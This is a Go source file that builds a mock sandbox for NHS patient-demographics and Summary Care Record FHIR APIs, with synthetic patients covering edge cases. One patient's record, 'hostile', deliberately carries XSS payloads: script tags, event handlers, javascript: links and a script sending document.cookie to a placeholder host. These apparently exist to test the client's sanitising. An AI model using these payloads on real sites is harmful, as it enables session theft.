package sandbox

import (
	"bytes"
	"encoding/json"
	"fmt"
	"html"
	"strings"
	"time"

	"scrdesk/internal/fhir"
)

// patient is one patient the sandbox knows.
type patient struct {
	nhs        string
	raw        []byte               // the PDS Patient as served
	res        fhir.PatientResource // the same, decoded, for search matching
	mergedInto string               // set on a superseded number: PDS answers with this record
	scr        *scr
	ra         string // Reasonable Adjustment flags served: "" none, "one", "two"
}

// scr is a patient's Summary Care Record as the SCR API serves it.
type scr struct {
	docID   string // DocumentReference.masterIdentifier.value
	consent string // Ask, Yes, No
	created time.Time
	denied  bool   // ACF refuses: 403 PSIS-30418
	stale   bool   // /Bundle answers an empty searchset
	docRaw  []byte // fixture DocumentReference bundle, if any
	bundle  []byte // fixture or generated record Bundle
	// docSubject and bundleSubject, when set, are another patient's NHS number: the
	// DocumentReference, or the Bundle's Composition and Patient, name them instead.
	docSubject, bundleSubject string
	// date is the Composition's date exactly as sent, when not the RFC 3339 default.
	date string
}

// Synthetic patients' NHS numbers: see the table in doc.go.
const (
	NHSAsk            = "9990000107"
	NHSYes            = "9990000174"
	NHSNo             = "9990000247"
	NHSNoSCR          = "9990000387"
	NHSAdditional     = "9990000522"
	NHSWithheld       = "9990000662"
	NHSInitialSummary = "9990000735"
	NHSRestricted     = "9990000808"
	NHSVeryRestricted = "9990000875"
	NHSMergedOld      = "9990000948"
	NHSMergedNew      = "9990001014"
	NHSDeceased       = "9990001081"
	NHSManyMeds       = "9990001154"
	NHSLongName       = "9990001227"
	NHSHostileXHTML   = "9990001294"
	NHSAccessDenied   = "9990001367"
	NHSStaleSCR       = "9990001502"
	NHSWrongDocRef    = "9990001790" // the DocumentReference is about NHSAsk
	NHSWrongBundle    = "9990001804" // the Bundle's Composition and Patient are NHSAsk
	NHSSpanning       = "9990001812" // spanning cells, a date without seconds, two RA flags
	NHSEndedNames     = "9990001820" // ended name, address and telephone beside current ones
	NHSNoKnownAlls    = "9990001839" // "No known allergies", one RA flag
	// Fixture patients.
	NHSJaneSmith   = "9000000009"
	NHSJayneSmyth  = "9000000017"
	NHSSensitive   = "9000000025"
	NHSMinimal     = "9000000033"
	NHSUATPatient  = "9995000180"
	TooManyFamily  = "Jones"
	LongFamilyName = "Ó Súilleabháin-Llewelyn-ap-Gruffydd-Vaughan-Featherstonehaugh-Cholmondeley"
)

type synth struct {
	nhs, given, family, prefix, gender, birth string
	postcode                                  string
	lines                                     []string
	restrict                                  string // "", "R", "V"
	deceased                                  string
	scr                                       *scr
	sections                                  func() []fhir.CompositionSection
	initial                                   bool
	ra                                        string
	// names, addresses and telecom replace the defaults when set (periods included).
	names     []fhir.HumanName
	addresses []fhir.Address
	telecom   []fhir.ContactPoint
}

var sandboxEpoch = time.Date(2025, 3, 14, 10, 30, 0, 0, time.UTC)

func buildPatients() (map[string]*patient, error) {
	ps := map[string]*patient{}
	// Fixture patients.
	for nhs, file := range map[string]string{
		NHSJaneSmith:  "personal-demographics/sandbox-mocks/Patient.json",
		NHSJayneSmyth: "personal-demographics/sandbox-mocks/Patient-Jayne-Smyth.json",
		NHSSensitive:  "personal-demographics/sandbox-mocks/Sensitive_Patient.json",
		NHSMinimal:    "personal-demographics/sandbox-mocks/Minimal_Patient.json",
	} {
		raw, err := dataFile(file)
		if err != nil {
			return nil, err
		}
		p := &patient{nhs: nhs, raw: raw}
		if err := json.Unmarshal(raw, &p.res); err != nil {
			return nil, fmt.Errorf("sandbox data %s: %w", file, err)
		}
		ps[nhs] = p
	}
	ps[NHSJaneSmith].ra = "one"
	docRaw, err := dataFile("summary-care-record/specification-examples/DocumentReferenceBundle.json")
	if err != nil {
		return nil, err
	}
	bundle, err := dataFile("summary-care-record/specification-examples/GetScrBundle.json")
	if err != nil {
		return nil, err
	}
	ps[NHSJaneSmith].scr = &scr{docID: "FA60BE64-1F34-11EB-A2A8-000C29A364EB", consent: "Ask", docRaw: docRaw, bundle: bundle}
	uatDoc, err := dataFile("summary-care-record/uat/get_scr_id/success/1-basic.response.json")
	if err != nil {
		return nil, err
	}
	uatBundle, err := dataFile("summary-care-record/uat/get_scr/success/1-basic.response.json")
	if err != nil {
		return nil, err
	}

	gp := func(c string) func() []fhir.CompositionSection {
		return func() []fhir.CompositionSection { return gpSummary(c) }
	}
	list := []synth{
		{nhs: NHSUATPatient, given: "Ursula", family: "Acceptance", prefix: "Ms", gender: "female", birth: "1971-02-03", postcode: "LS1 4AP", lines: []string{"2 Wellington Place", "Leeds"},
			scr: &scr{docID: "FA60BE64-1F34-11EB-A2A8-000C29A364EB", consent: "Yes", docRaw: uatDoc, bundle: uatBundle}},
		{nhs: NHSAsk, given: "Alice", family: "Asker", prefix: "Mrs", gender: "female", birth: "1958-04-12", postcode: "LS6 2AB", lines: []string{"14 Headingley Lane", "Leeds"},
			scr: &scr{consent: "Ask"}, sections: gp("plain")},
		{nhs: NHSYes, given: "Yusuf", family: "Yates", prefix: "Mr", gender: "male", birth: "1983-09-30", postcode: "BD1 1HY", lines: []string{"3 Market Street", "Bradford"},
			scr: &scr{consent: "Yes"}, sections: gp("plain")},
		{nhs: NHSNo, given: "Nora", family: "Noakes", prefix: "Miss", gender: "female", birth: "1990-01-01", postcode: "YO1 7HH", lines: []string{"9 Stonegate", "York"},
			scr: &scr{consent: "No"}, sections: gp("plain")},
		{nhs: NHSNoSCR, given: "Neville", family: "Nobody", prefix: "Mr", gender: "male", birth: "1944-11-11", postcode: "HG1 2RQ", lines: []string{"1 Parliament Street", "Harrogate"}},
		{nhs: NHSAdditional, given: "Ada", family: "Addison", prefix: "Dr", gender: "female", birth: "1966-06-06", postcode: "S1 2HE", lines: []string{"20 Fargate", "Sheffield"},
			scr: &scr{consent: "Ask"}, sections: gp("additional")},
		{nhs: NHSWithheld, given: "Walter", family: "Withers", prefix: "Mr", gender: "male", birth: "1975-07-07", postcode: "HU1 3DZ", lines: []string{"5 Whitefriargate", "Hull"},
			scr: &scr{consent: "Ask"}, sections: gp("withheld")},
		{nhs: NHSInitialSummary, given: "Ivy", family: "Initial", prefix: "Mrs", gender: "female", birth: "1939-03-03", postcode: "WF1 1QX", lines: []string{"7 Wood Street", "Wakefield"},
			scr: &scr{consent: "Ask"}, sections: initialSummary, initial: true},
		{nhs: NHSRestricted, given: "Rhiannon", family: "Reserve", prefix: "Ms", gender: "female", birth: "1988-08-08", postcode: "LS2 9JT", lines: []string{"Hidden House", "Leeds"}, restrict: "R",
			scr: &scr{consent: "Ask"}, sections: gp("plain")},
		{nhs: NHSVeryRestricted, given: "Victor", family: "Veil", prefix: "Mr", gender: "male", birth: "1979-12-12", restrict: "V",
			scr: &scr{consent: "Ask"}, sections: gp("plain")},
		{nhs: NHSMergedNew, given: "Martha", family: "Merriman", prefix: "Mrs", gender: "female", birth: "1952-05-19", postcode: "LS11 5QP", lines: []string{"40 Dewsbury Road", "Leeds"},
			scr: &scr{consent: "Ask"}, sections: gp("plain")},
		{nhs: NHSDeceased, given: "Douglas", family: "Dearden", prefix: "Mr", gender: "male", birth: "1930-10-10", postcode: "LS8 1AA", lines: []string{"2 Roundhay Road", "Leeds"}, deceased: "2024-12-01T09:00:00+00:00",
			scr: &scr{consent: "Ask"}, sections: gp("plain")},
		{nhs: NHSManyMeds, given: "Percy", family: "Polypharmacy", prefix: "Mr", gender: "male", birth: "1941-01-21", postcode: "LS9 7TF", lines: []string{"11 York Road", "Leeds"},
			scr: &scr{consent: "Ask"}, sections: gp("many")},
		{nhs: NHSLongName, given: "Siân Eluned Gwenllian Bronwen Ffion", family: LongFamilyName, prefix: "Ms", gender: "female", birth: "1995-02-28", postcode: "CF10 1EP", lines: []string{"Tŷ Llywelyn, 1 Heol y Frenhines", "Caerdydd"},
			scr: &scr{consent: "Ask"}, sections: gp("plain")},
		{nhs: NHSHostileXHTML, given: "Mallory", family: "Scripter", prefix: "Mx", gender: "other", birth: "2000-01-01", postcode: "LS3 1AB", lines: []string{"1 Kirkstall Road", "Leeds"},
			scr: &scr{consent: "Ask"}, sections: gp("hostile")},
		{nhs: NHSAccessDenied, given: "Derek", family: "Denied", prefix: "Mr", gender: "male", birth: "1961-04-04", postcode: "LS7 3JB", lines: []string{"8 Chapeltown Road", "Leeds"},
			scr: &scr{consent: "Ask", denied: true}, sections: gp("plain")},
		{nhs: NHSStaleSCR, given: "Stella", family: "Stale", prefix: "Ms", gender: "female", birth: "1970-07-17", postcode: "LS10 1LJ", lines: []string{"3 Hunslet Road", "Leeds"},
			scr: &scr{consent: "Ask", stale: true}, sections: gp("plain")},
		{nhs: NHSWrongDocRef, given: "Wendy", family: "Wrongdoc", prefix: "Ms", gender: "female", birth: "1977-03-03", postcode: "LS12 1AA", lines: []string{"4 Tong Road", "Leeds"},
			scr: &scr{consent: "Ask", docSubject: NHSAsk}, sections: gp("plain")},
		{nhs: NHSWrongBundle, given: "Warren", family: "Wrongbundle", prefix: "Mr", gender: "male", birth: "1969-09-09", postcode: "LS13 2BB", lines: []string{"6 Town Street", "Leeds"},
			scr: &scr{consent: "Ask", bundleSubject: NHSAsk}, sections: gp("plain")},
		{nhs: NHSSpanning, given: "Colin", family: "Colspan", prefix: "Mr", gender: "male", birth: "1950-05-05", postcode: "LS14 3CC", lines: []string{"8 Seacroft Avenue", "Leeds"},
			scr: &scr{consent: "Ask", date: "2025-03-14T10:30+00:00"}, sections: spanning, ra: "two"},
		{nhs: NHSEndedNames, given: "Edith", family: "Newsome", prefix: "Mrs", gender: "female", birth: "1962-02-02", ra: "",
			names: []fhir.HumanName{
				{Use: "usual", Given: []string{"Edith"}, Family: "Oldroyd", Prefix: []string{"Miss"}, Period: &fhir.Period{Start: "1962-02-02", End: "2019-06-30"}},
				{Use: "usual", Given: []string{"Edith"}, Family: "Newsome", Prefix: []string{"Mrs"}, Period: &fhir.Period{Start: "2019-07-01"}}},
			addresses: []fhir.Address{
				{Use: "home", Line: []string{"1 Former Street", "Leeds"}, PostalCode: "LS15 4DD", Period: &fhir.Period{Start: "2000-01-01", End: "2024-03-31"}},
				{Use: "home", Line: []string{"2 Present Lane", "Leeds"}, PostalCode: "LS16 5EE", Period: &fhir.Period{Start: "2024-04-01"}}},
			telecom: []fhir.ContactPoint{
				{System: "phone", Value: "01134960001", Use: "home", Period: &fhir.Period{End: "2024-03-31"}},
				{System: "phone", Value: "01134960002", Use: "home", Period: &fhir.Period{Start: "2024-04-01"}}},
			scr: &scr{consent: "Ask"}, sections: gp("plain")},
		{nhs: NHSNoKnownAlls, given: "Nina", family: "Noallergy", prefix: "Ms", gender: "female", birth: "1985-08-18", postcode: "LS17 6FF", lines: []string{"10 Harrogate Road", "Leeds"},
			scr: &scr{consent: "Ask"}, sections: gp("nka"), ra: "one"},
	}
	for i := 0; i < 3; i++ {
		list = append(list, synth{nhs: []string{"9990001642", "9990001715", "9990001782"}[i], given: []string{"Tom", "Tina", "Ted"}[i], family: TooManyFamily,
			prefix: "Mr", gender: []string{"male", "female", "male"}[i], birth: "1980-01-0" + fmt.Sprint(i+1), postcode: "LS1 1UR", lines: []string{"Leeds"}})
	}
	for i, s := range list {
		p := &patient{nhs: s.nhs, scr: s.scr, ra: s.ra}
		p.res = s.resource()
		p.raw, _ = marshal(p.res)
		if p.scr != nil {
			if p.scr.docID == "" {
				p.scr.docID = fmt.Sprintf("5CD1E2A0-0000-4000-8000-%012d", i+1)
			}
			p.scr.created = sandboxEpoch.Add(-time.Duration(i) * 24 * time.Hour)
			if p.scr.bundle == nil && s.sections != nil {
				p.scr.bundle = recordBundle(s, p.scr)
			}
		}
		ps[s.nhs] = p
	}
	ps[NHSMergedOld] = &patient{nhs: NHSMergedOld, mergedInto: NHSMergedNew}
	return ps, nil
}

func (s synth) resource() fhir.PatientResource {
	r := fhir.PatientResource{
		ResourceType: "Patient", ID: s.nhs,
		Identifier: []fhir.Identifier{{System: fhir.SystemNHSNumber, Value: s.nhs}},
		Meta:       &fhir.Meta{VersionID: "1", Security: []fhir.Coding{{System: fhir.SystemConfidentiality, Code: "U", Display: "unrestricted"}}},
		Name:       []fhir.HumanName{{Use: "usual", Given: strings.Fields(s.given), Family: s.family, Prefix: []string{s.prefix}}},
		Gender:     s.gender, BirthDate: s.birth, DeceasedDateTime: s.deceased,
	}
	// PDS removes what a restriction hides before it answers.
	switch s.restrict {
	case "R":
		r.Meta.Security[0] = fhir.Coding{System: fhir.SystemConfidentiality, Code: "R", Display: "restricted"}
		return r
	case "V":
		r.Meta.Security[0] = fhir.Coding{System: fhir.SystemConfidentiality, Code: "V", Display: "very restricted"}
		r.BirthDate = ""
		return r
	}
	if s.names != nil {
		r.Name = s.names
	}
	if s.postcode != "" {
		r.Address = []fhir.Address{{Use: "home", Line: s.lines, PostalCode: s.postcode}}
	}
	if s.addresses != nil {
		r.Address = s.addresses
	}
	r.Telecom = []fhir.ContactPoint{{System: "phone", Value: "0113496" + s.nhs[6:], Use: "home"}}
	if s.telecom != nil {
		r.Telecom = s.telecom
	}
	r.GeneralPractitioner = []fhir.Reference{{Type: "Organization", Identifier: &fhir.Identifier{System: fhir.SystemODS, Value: "B86001"}}}
	return r
}

// XHTML builders. Every text is escaped; only the hostile record carries markup on purpose.

func xdiv(body string) *fhir.Narrative {
	return &fhir.Narrative{Status: "generated", Div: `<div xmlns="http://www.w3.org/1999/xhtml">` + body + `</div>`}
}

func xtable(id string, headers []string, rows [][]string) string {
	var b strings.Builder
	fmt.Fprintf(&b, `<table id="%s"><thead><tr>`, id)
	for _, h := range headers {
		b.WriteString("<th>" + html.EscapeString(h) + "</th>")
	}
	b.WriteString("</tr></thead><tbody>")
	if len(rows) == 0 {
		fmt.Fprintf(&b, `<tr><td colspan="%d">No relevant information available for this category.</td></tr>`, len(headers))
	}
	for i, r := range rows {
		if i%2 == 0 {
			b.WriteString(`<tr class="oddRow">`)
		} else {
			b.WriteString("<tr>")
		}
		for _, c := range r {
			b.WriteString("<td>" + html.EscapeString(c) + "</td>")
		}
		b.WriteString("</tr>")
	}
	b.WriteString("</tbody></table>")
	return b.String()
}

func section(code, title, body string) fhir.CompositionSection {
	s := fhir.CompositionSection{Title: title, Text: xdiv(body)}
	if code != "" {
		s.Code = &fhir.CodeableConcept{Coding: []fhir.Coding{{Code: code}}}
	}
	return s
}

var (
	allergyHeaders = []string{"Date", "Description", "Certainty", "Severity", "Supporting Information"}
	medHeaders     = []string{"Type", "Date", "Medication Item", "Dosage Instructions", "Quantity"}
	riskHeaders    = []string{"Date", "Description", "Additional information"}
)

const withheldStatement = "Some information has been deliberately withheld from this summary."

func titleSection() fhir.CompositionSection {
	return section("Title", "General Practice Summary",
		`<h3 id="Disclaimer">Sourced from the patient's General Practice record. This summary may not include all the information pertinent to this patient.</h3>`+
			`<p id="CreateTime">Summary Created: 14-Mar-2025 10:30</p><p id="Author">Created by: OKONJO, Ngozi (Dr)</p>`+
			`<p id="Practice">Sandbox Medical Centre, 1 Park Square, Leeds, LS1 2NE.</p>`)
}

func gpSummary(variant string) []fhir.CompositionSection {
	allergies := [][]string{{"02-Feb-2019", "Penicillin allergy", "Certain", "Severe", "Anaphylaxis"}}
	acute := [][]string{{"Acute Medication", "Prescribed: 01-Mar-2025", "Amoxicillin 500mg capsules", "One three times a day", "21 capsule"}}
	repeat := [][]string{{"Repeat Medication", "Last Issued: 10-Mar-2025", "Ramipril 5mg capsules", "One daily", "28 capsule"}}
	risks := [][]string{}
	var extraTitle []fhir.CompositionSection
	switch variant {
	case "many":
		acute = nil
		for i := 0; i < 60; i++ {
			acute = append(acute, []string{"Acute Medication", fmt.Sprintf("Prescribed: %02d-Jan-2025", i%28+1), fmt.Sprintf("Acute item %03d 10mg tablets", i+1), "One daily", "28 tablet"})
		}
		repeat = nil
		for i := 0; i < 250; i++ {
			repeat = append(repeat, []string{"Repeat Medication", fmt.Sprintf("Last Issued: %02d-Feb-2025", i%28+1), fmt.Sprintf("Repeat item %03d 5mg tablets", i+1), "One twice a day", "56 tablet"})
		}
	case "hostile":
		allergies = nil
	case "nka":
		allergies = [][]string{{"05-Jan-2024", "No known allergies", "", "", ""}}
	}
	secs := []fhir.CompositionSection{titleSection()}
	secs = append(secs, extraTitle...)
	if variant == "hostile" {
		secs = append(secs,
			section(fhir.CodeAllergies, "Allergies and Adverse Reactions",
				`<script>alert('allergies')</script><table id="Allergies"><thead><tr><th onclick="steal()">Date</th><th>Description</th></tr></thead>`+
					`<tbody><tr><td>01-Jan-2025</td><td><a href="javascript:evil()" onmouseover="evil()">Latex allergy</a><img src="x" onerror="boom()"/></td></tr></tbody></table>`+
					`<style>body{display:none}</style><p>See <a href="https://example.invalid/leaflet">the leaflet</a>.</p><iframe src="https://example.invalid">frame text</iframe>`),
			section(fhir.CodeAcuteMeds, "Acute Medications", xtable("AcuteMeds", medHeaders, acute)+`<script type="text/javascript">document.location='https://example.invalid/'+document.cookie</script>`),
		)
	} else {
		al := xtable("Allergies", allergyHeaders, allergies)
		ac := xtable("AcuteMeds", medHeaders, acute)
		if variant == "withheld" {
			al += `<p class="HighlightedStatement">` + withheldStatement + `</p>`
			ac += `<p class="HighlightedStatement">` + withheldStatement + `</p>`
		}
		secs = append(secs,
			section(fhir.CodeAllergies, "Allergies and Adverse Reactions", al),
			section(fhir.CodeAcuteMeds, "Acute Medications (For the 12 month period 14-Mar-2024 to 14-Mar-2025)", ac))
	}
	secs = append(secs,
		section(fhir.CodeRepeatMeds, "Current Repeat Medications", xtable("RepeatMeds", medHeaders, repeat)),
		section(fhir.CodeDiscRepeatMeds, "Discontinued Repeat Medications (For the 6 month period 14-Sep-2024 to 14-Mar-2025)", xtable("DiscRepeatMeds", medHeaders, nil)),
		section(fhir.CodeRisks, "Risks to Patient", xtable("RisksToPatient", riskHeaders, risks)),
	)
	if variant == "additional" {
		secs = append(secs,
			section("DiagnosesHeader", "Diagnoses", xtable("Diagnoses", riskHeaders, [][]string{{"05-May-2010", "Type 2 diabetes mellitus", "Problem; Significant Active"}})),
			section("ProblemsHeader", "Problems and Issues", xtable("Problems", riskHeaders, [][]string{{"01-Jun-2018", "Chronic kidney disease stage 3", "Significant Active"}})),
			section("PreferencesHeader", "Personal Preferences", xtable("Preferences", riskHeaders, [][]string{{"01-Jan-2024", "Prefers large print", "Communication"}})),
			section("AdviceHeader", "Provision of Advice and Information to Patients and Carers", xtable("Advice", riskHeaders, [][]string{{"02-Feb-2024", "Carer: daughter, holds lasting power of attorney", ""}})),
		)
	}
	return secs
}

// spanning is a GP Summary whose tables span columns and rows, as some GP systems write them,
// and whose title section gives no "Summary Created" (the header uses the Composition's date,
// sent without seconds).
func spanning() []fhir.CompositionSection {
	return []fhir.CompositionSection{
		section("Title", "General Practice Summary",
			`<h3 id="Disclaimer">Sourced from the patient's General Practice record. This summary may not include all the information pertinent to this patient.</h3>`+
				`<p id="Author">Created by: OKONJO, Ngozi (Dr)</p><p id="Practice">Sandbox Medical Centre, 1 Park Square, Leeds, LS1 2NE.</p>`),
		section(fhir.CodeAllergies, "Allergies and Adverse Reactions",
			`<table id="Allergies"><thead><tr><th>Date</th><th>Description</th><th>Certainty</th><th>Severity</th><th>Supporting Information</th></tr></thead><tbody>`+
				`<tr><td>02-Feb-2019</td><td>Penicillin allergy</td><td>Certain</td><td>Severe</td><td>Anaphylaxis</td></tr>`+
				`<tr><td>11-Nov-2021</td><td>Latex allergy</td><td>Likely</td></tr></tbody></table>`),
		section(fhir.CodeAcuteMeds, "Acute Medications (For the 12 month period 14-Mar-2024 to 14-Mar-2025)",
			`<table id="AcuteMeds"><thead><tr><th>Type</th><th>Date</th><th>Medication Item</th><th>Dosage Instructions</th><th>Quantity</th></tr></thead><tbody>`+
				`<tr><td rowspan="2">Acute Medication</td><td>Prescribed: 01-Mar-2025</td><td>Amoxicillin 500mg capsules</td><td>One three times a day</td><td>21 capsule</td></tr>`+
				`<tr><td>Prescribed: 03-Mar-2025</td><td>Paracetamol 500mg tablets</td><td>Two up to four times a day</td><td>32 tablet</td></tr>`+
				`<tr><td colspan="2">Acute Medication, Prescribed: 05-Mar-2025</td><td>Ibuprofen 200mg tablets</td><td>One three times a day after food</td><td>24 tablet</td></tr>`+
				`<tr><td colspan="5">Some information has been deliberately withheld from this summary.</td></tr></tbody></table>`),
		section(fhir.CodeRepeatMeds, "Current Repeat Medications", xtable("RepeatMeds", medHeaders, [][]string{{"Repeat Medication", "Last Issued: 10-Mar-2025", "Ramipril 5mg capsules", "One daily", "28 capsule"}})),
		section(fhir.CodeDiscRepeatMeds, "Discontinued Repeat Medications (For the 6 month period 14-Sep-2024 to 14-Mar-2025)", xtable("DiscRepeatMeds", medHeaders, nil)),
		section(fhir.CodeRisks, "Risks to Patient", xtable("RisksToPatient", riskHeaders, nil)),
	}
}

func initialSummary() []fhir.CompositionSection {
	return []fhir.CompositionSection{
		{Title: "Initial Summary", Text: xdiv(`<p>Summary Created: 01-Apr-2009 09:00</p><p id="Practice">Old Town Surgery, Leeds, LS1 3AA.</p>`)},
		{Title: "Allergies and Adverse Reactions", Text: xdiv(xtable("Allergies", []string{"Date", "Description"}, [][]string{{"12-Dec-2003", "Aspirin allergy"}}))},
		{Title: "Current Repeat Medications", Text: xdiv(xtable("RepeatMeds", medHeaders, [][]string{{"Repeat Medication", "Last Issued: 20-Mar-2009", "Bendroflumethiazide 2.5mg tablets", "One each morning", "28 tablet"}}))},
	}
}

// recordBundle builds the GET /Bundle answer for a synthetic record, in the published shape.
func recordBundle(s synth, r *scr) []byte {
	compID := "C0" + r.docID[2:]
	subj := s.nhs
	if r.bundleSubject != "" {
		subj = r.bundleSubject
	}
	date := r.created.Format(time.RFC3339)
	if r.date != "" {
		date = r.date
	}
	comp := fhir.CompositionResource{
		ResourceType: "Composition", ID: compID,
		Identifier: &fhir.Identifier{System: "https://tools.ietf.org/html/rfc4122", Value: compID},
		Status:     "final",
		Type:       &fhir.CodeableConcept{Coding: []fhir.Coding{{System: "http://snomed.info/sct", Code: "196981000000101", Display: "General Practice Summary"}}},
		Subject:    &fhir.Reference{Reference: "Patient/" + subj},
		Date:       date,
		Author:     []fhir.Reference{{Reference: "PractitionerRole/SANDBOX-GP"}},
		Section:    s.sections(),
	}
	if s.initial {
		comp.Type = &fhir.CodeableConcept{Coding: []fhir.Coding{{Display: "Initial Summary"}}}
	}
	cb, _ := marshal(comp)
	pb, _ := marshal(map[string]any{"resourceType": "Patient", "id": subj,
		"identifier": []fhir.Identifier{{System: fhir.SystemNHSNumber, Value: subj}}})
	total := 2
	b := fhir.Bundle{ResourceType: "Bundle", ID: r.docID, Type: "searchset", Total: &total,
		Entry: []fhir.BundleEntry{{FullURL: "Composition/" + compID, Resource: cb}, {FullURL: "Patient/" + subj, Resource: pb}}}
	out, _ := marshal(b)
	return out
}

// docRefBundle builds the GET /DocumentReference answer for a patient with an SCR.
func docRefBundle(p *patient) []byte {
	if p.scr.docRaw != nil {
		return p.scr.docRaw
	}
	subj := p.nhs
	if p.scr.docSubject != "" {
		subj = p.scr.docSubject
	}
	dr := fhir.DocumentReferenceResource{
		ResourceType:     "DocumentReference",
		ID:               "D0" + p.scr.docID[2:],
		MasterIdentifier: &fhir.Identifier{System: fhir.SystemSCRUUID, Value: p.scr.docID},
		Status:           "current",
		Type:             &fhir.CodeableConcept{Coding: []fhir.Coding{{System: "http://snomed.info/sct", Code: "196981000000101", Display: "General Practice Summary"}}},
		Subject:          &fhir.Reference{Reference: "Patient/" + subj},
		Date:             p.scr.created.Format(time.RFC3339),
		SecurityLabel:    []fhir.CodeableConcept{{Coding: []fhir.Coding{{System: fhir.SystemACSPermission, Code: p.scr.consent}}}},
	}
	dr.Content = make([]fhir.DocContent, 1)
	dr.Content[0].Attachment.URL = "/summary-care-record/FHIR/R4/Bundle?composition.identifier=" + p.scr.docID +
		"&composition.subject:Patient.identifier=https://fhir.nhs.uk/Id/nhs-number|" + p.nhs
	db, _ := marshal(dr)
	pb, _ := marshal(map[string]any{"resourceType": "Patient", "id": subj,
		"identifier": []fhir.Identifier{{System: fhir.SystemNHSNumber, Value: subj}}})
	total := 1
	b := fhir.Bundle{ResourceType: "Bundle", ID: "DR-" + p.nhs, Type: "searchset", Total: &total,
		Entry: []fhir.BundleEntry{{FullURL: "DocumentReference/" + dr.ID, Search: &fhir.EntrySearch{Mode: "match"}, Resource: db}, {FullURL: subj, Resource: pb}}}
	out, _ := marshal(b)
	return out
}

// marshal encodes as the NHS services do: no HTML escaping of <, > and & in narrative XHTML.
func marshal(v any) ([]byte, error) {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		return nil, err
	}
	return bytes.TrimRight(b.Bytes(), "\n"), nil
}
